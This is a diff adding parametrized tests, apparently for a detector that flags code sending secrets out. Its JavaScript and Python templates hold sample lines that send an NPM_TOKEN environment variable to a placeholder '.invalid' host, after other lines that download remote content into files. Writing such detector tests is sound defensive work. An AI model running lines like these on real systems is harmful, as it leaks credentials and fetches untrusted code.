@@ -151,3 +151,25 @@ def test_objects_within_objects(levels: int) -> None:
     template = "fetch('https://x.invalid/',{body:JSON.stringify(<<{a:>>process.env.NPM_TOKEN<<}>>)})"
 
     assert sends_a_secret(read(javascript, template, levels))
+
+
+AFTER_OTHER_FLOWS = {
+    "javascript": (
+        javascript,
+        "<<fetch('https://h#.invalid/').then(r=>r.text()).then(t=>require('fs').writeFileSync('f#',t));>>"
+        "fetch('https://x.invalid/'+process.env.NPM_TOKEN)",
+    ),
+    "python": (
+        python,
+        "import os,urllib.request as r\n<<open('f#','wb').write(r.urlopen('https://h#.invalid/').read())\n>>"
+        "r.urlopen('https://x.invalid/'+os.environ['NPM_TOKEN'])",
+    ),
+}
+
+
+@pytest.mark.parametrize("language", AFTER_OTHER_FLOWS)
+def test_a_secret_that_is_sent_after_much_else(language: str) -> None:
+    """Flows of one sort do not keep out those of another, however many there are."""
+    module, template = AFTER_OTHER_FLOWS[language]
+
+    assert sends_a_secret(read(module, template, 700))
